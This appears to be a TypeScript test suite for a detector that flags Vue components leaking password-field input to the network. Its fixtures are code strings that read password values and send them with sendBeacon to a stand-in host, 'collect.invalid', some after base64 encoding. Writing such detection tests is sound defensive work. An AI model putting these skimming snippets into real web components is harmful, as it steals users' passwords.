import assert from 'node:assert/strict';
import { flowsOf } from './sent.js';

const SEND = (what: string): string => `navigator.sendBeacon('https://collect.invalid', ${what})`;
const TYPED = `document.querySelector('input[type=password]').value`;
const SENT = ['keystrokes>network@collect.invalid'];
const component = (body: string): readonly string[] =>
  flowsOf(
    `const { h, ref, toRef, toRefs, reactive, computed, watch, watchEffect, onMounted, onUnmounted, unref, defineComponent } = require('vue'); ${body}`,
  );

describe('values that Vue tells of', () => {
  it('are found where they were put', () => {
    const refs = `const typed = ref(''); typed.value = ${TYPED};`;
    const form = `const form = reactive({ user: '', secret: '' }); form.secret = ${TYPED};`;
    for (const body of [
      `${refs} exports.send = () => ${SEND('typed.value')};`,
      `${refs} const both = computed(() => btoa(typed.value)); exports.send = () => ${SEND('both.value')};`,
      `${refs} const both = computed({ get: () => btoa(typed.value), set() {} }); exports.send = () => ${SEND('unref(both)')};`,
      `${refs} watch(typed, (now) => { ${SEND('now')}; });`,
      `${refs} watch([typed, () => 1], ([now]) => { ${SEND('now')}; });`,
      `${refs} watchEffect(() => { if (typed.value.length > 3) ${SEND('typed.value')}; });`,
      `const typed = ref(''); onUnmounted(() => { ${SEND('typed.value')}; }); onMounted(() => { typed.value = ${TYPED}; });`,
      `${form} watch(() => form.secret, (now) => { ${SEND('now')}; });`,
      `${form} watch(form, (now) => { ${SEND('JSON.stringify(now)')}; });`,
      `${form} const { secret } = toRefs(form); exports.send = () => ${SEND('secret.value')};`,
      `${form} const secret = toRef(form, 'secret'); exports.send = () => ${SEND('secret.value')};`,
      `exports.Field = defineComponent({ setup() { const typed = ref(''); watch(typed, (now) => { ${SEND('now')}; }); return () => h('input', { type: 'password', onInput: (e) => { typed.value = e.target.value; } }); } });`,
    ])
      assert.deepEqual(component(body), SENT, body);
  });

  it('are those that a compiled template binds', () => {
    const field = (type: string): readonly string[] =>
      flowsOf(`import { ref, defineComponent, openBlock as _openBlock, createElementBlock as _createElementBlock, withDirectives as _withDirectives, vModelText as _vModelText } from 'vue';
        export default defineComponent({ setup(props, { emit }) { const typed = ref(''); const submit = () => ${SEND('typed.value')};
          return (_ctx, _cache) => (_openBlock(), _withDirectives(_createElementBlock("input", { type: "${type}", "onUpdate:modelValue": _cache[0] || (_cache[0] = $event => (typed.value = $event)) }, null, 512), [[_vModelText, typed.value]])); } });`);
    assert.deepEqual([field('password'), field('search')], [SENT, []]);
  });

  it('mean nothing where they stay with who uses the component', () => {
    const refs = `const typed = ref(''); typed.value = ${TYPED};`;
    for (const body of [
      `${refs} exports.setup = (props, { emit }) => { watch(typed, (now) => emit('change', now)); };`,
      `${refs} watch(typed, (now) => fetch('/check', { method: 'POST', body: now }));`,
      `const typed = ref(''); exports.send = () => ${SEND('typed.value')};`,
    ])
      assert.deepEqual(component(body), [], body);
  });
});
